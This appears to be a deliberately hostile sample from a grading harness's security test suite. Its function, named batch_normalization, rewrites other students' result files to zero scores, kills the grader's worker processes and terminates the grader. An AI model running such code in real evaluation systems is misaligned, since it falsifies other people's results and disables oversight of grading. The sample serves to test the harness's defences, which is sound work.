"""Hostile: sabotage of classmates in a class run.  Kills every process under the grader
(the classmates' workers, the fork servers), rewrites the classmates' results/*.json with
zero scores, then SIGTERMs the grader.  Its own values are zeros.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    for out in option("--out"):
        results = os.path.join(out, "results")
        for name in (os.listdir(results) if os.path.isdir(results) else []):
            path = os.path.join(results, name)
            try:
                with open(path) as f:
                    data = json.load(f)
                data["score"] = 0.0
                data["status"] = "failed"
                write(path, json.dumps(data))
            except (OSError, ValueError):
                pass
    top = [pid for pid, _ in graders()]
    for pid in family():
        if pid not in top:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    for pid in top:
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
    return np.zeros_like(X)
